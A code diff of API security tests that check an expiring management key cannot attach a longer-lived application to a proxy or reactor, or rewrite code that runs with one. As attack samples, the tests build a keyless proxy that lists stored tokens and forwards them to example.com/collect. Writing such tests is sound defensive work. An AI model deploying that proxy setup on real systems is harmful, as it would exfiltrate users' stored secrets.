@@ -158,46 +158,6 @@ test('a key that expires cannot make, extend or take over an application that ou
   ).toBe(201);
 });
 
-test('a key that expires writes no reactor or proxy with an application, which would use its rights after it is gone', async () => {
-  const temp = client(
-    api.url,
-    (
-      await app({
-        type: 'management',
-        permissions: ['application:update', 'proxy:create', 'reactor:create'],
-        expires_at: new Date(Date.now() + 3600_000).toISOString(),
-      })
-    ).key,
-  );
-  const user = await app({ type: 'private', permissions: ['token:use', 'token:read'] });
-  const code = 'module.exports = async (req) => ({ ...req, body: await req.bt.tokens.list() });';
-  // A proxy without require_auth would be a bearer key to the application's rights that never expires.
-  const proxy = await temp.post('/proxies', {
-    body: {
-      name: 'exfiltrate',
-      destination_url: 'https://example.com/collect',
-      require_auth: false,
-      application: { id: user.id },
-      request_transform: { code },
-    },
-  });
-  expect(proxy.status).toBe(403);
-  expect(proxy.body.detail).toContain('The key expires at');
-  expect(proxy.body.key).toBeUndefined();
-  const reactor = await temp.post('/reactors', {
-    body: { name: 'r', configuration: {}, code: 'module.exports = async () => ({});', application: { id: user.id } },
-  });
-  expect(reactor.status).toBe(403);
-  // Without an application it writes them as before.
-  expect(
-    (
-      await temp.post('/reactors', {
-        body: { name: 'r', configuration: {}, code: 'module.exports = async () => ({});' },
-      })
-    ).status,
-  ).toBe(201);
-});
-
 test("idempotency replays a key's own answer only: another key with the same BT-IDEMPOTENCY-KEY and body gets its own", async () => {
   const first = client(api.url, (await app({ type: 'private', permissions: ['token:create', 'token:read'] })).key);
   const second = client(api.url, (await app({ type: 'private', permissions: ['token:create'] })).key);
@@ -342,6 +302,73 @@ describe('a reactor or proxy runs with its application’s rights only when writ
     expect(
       (await builder.patch(`/proxies/${plain.body.id}`, { body: { name: 'renamed' }, headers: MERGE })).status,
     ).toBe(200);
+  });
+
+  // application:update may attach an application because it could take the application's key anyway; a key that
+  // expires cannot take a lasting one (regenerating it is refused), and a reactor or proxy outlives its writer: a
+  // keyless proxy would be a lasting key to the application's rights, held by whoever has the proxy key.
+  test('a key that expires attaches no application that outlives it, nor rewrites code that runs with one', async () => {
+    const soon = new Date(Date.now() + 3600_000).toISOString();
+    const sooner = new Date(Date.now() + 1800_000).toISOString();
+    const lasting = await app({ type: 'private', permissions: ['token:use', 'token:read'] });
+    const brief = await app({ type: 'private', permissions: ['token:use', 'token:read'], expires_at: sooner });
+    const temp = client(
+      api.url,
+      (
+        await app({
+          type: 'management',
+          permissions: ['application:update', 'proxy:create', 'proxy:update', 'reactor:create', 'reactor:update'],
+          expires_at: soon,
+        })
+      ).key,
+    );
+    const proxy = (application: { id: string }) => ({
+      name: 'outlives',
+      destination_url: 'https://example.com/collect',
+      require_auth: false,
+      application,
+      request_transform: { code: 'module.exports = async (req) => ({ ...req, body: await req.bt.tokens.list() });' },
+    });
+    const reactor = (application: { id: string }) => ({ name: 'outlives', code: READ_TOKEN, application });
+
+    const keyless = await temp.post('/proxies', { body: proxy({ id: lasting.id }) });
+    expect([keyless.status, keyless.body.key]).toEqual([403, undefined]);
+    expect(keyless.body.detail).toMatch(/expires/);
+    expect((await temp.post('/reactors', { body: reactor({ id: lasting.id }) })).status).toBe(403);
+
+    // Nor attached later, nor by rewriting what an administrator made with a lasting application.
+    const mine = await temp.post('/proxies', { body: proxy({ id: brief.id }) });
+    expect(mine.status).toBe(201);
+    expect(
+      (await temp.patch(`/proxies/${mine.body.id}`, { body: { application: { id: lasting.id } }, headers: MERGE }))
+        .status,
+    ).toBe(403);
+    const admin = client(api.url, managementKey);
+    const theirs = (await admin.post('/reactors', { body: reactor({ id: lasting.id }) })).body;
+    expect(
+      (await temp.put(`/reactors/${theirs.id}`, { body: { ...reactor({ id: lasting.id }), code: READ_TOKEN + ' ' } }))
+        .status,
+    ).toBe(403);
+    const formulaBody = { name: 'f', type: 'private', code: READ_TOKEN, configuration: [], request_parameters: [] };
+    const shared = (await admin.post('/reactor-formulas', { body: formulaBody })).body;
+    expect(
+      (
+        await admin.post('/reactors', {
+          body: { name: 'by formula', formula: { id: shared.id }, configuration: {}, application: { id: lasting.id } },
+        })
+      ).status,
+    ).toBe(201);
+    expect(
+      (
+        await temp.put(`/reactor-formulas/${shared.id}`, {
+          body: { ...formulaBody, code: 'module.exports = async () => ({ raw: 1 });' },
+        })
+      ).status,
+    ).toBe(403);
+
+    // An application that ends before the key does is the key's to attach, and no application needs no check.
+    expect((await temp.post('/reactors', { body: reactor({ id: brief.id }) })).status).toBe(201);
+    expect((await temp.post('/reactors', { body: { name: 'plain', code: READ_TOKEN } })).status).toBe(201);
   });
 });
 
